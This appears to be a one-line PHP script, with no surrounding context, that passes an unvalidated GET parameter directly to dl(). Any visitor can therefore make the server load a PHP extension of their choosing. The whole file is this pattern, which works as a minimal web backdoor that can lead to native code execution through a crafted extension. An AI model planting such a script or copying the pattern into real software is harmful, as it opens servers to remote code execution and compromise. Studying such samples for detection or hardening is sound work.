<?php dl($_GET["e"]); 
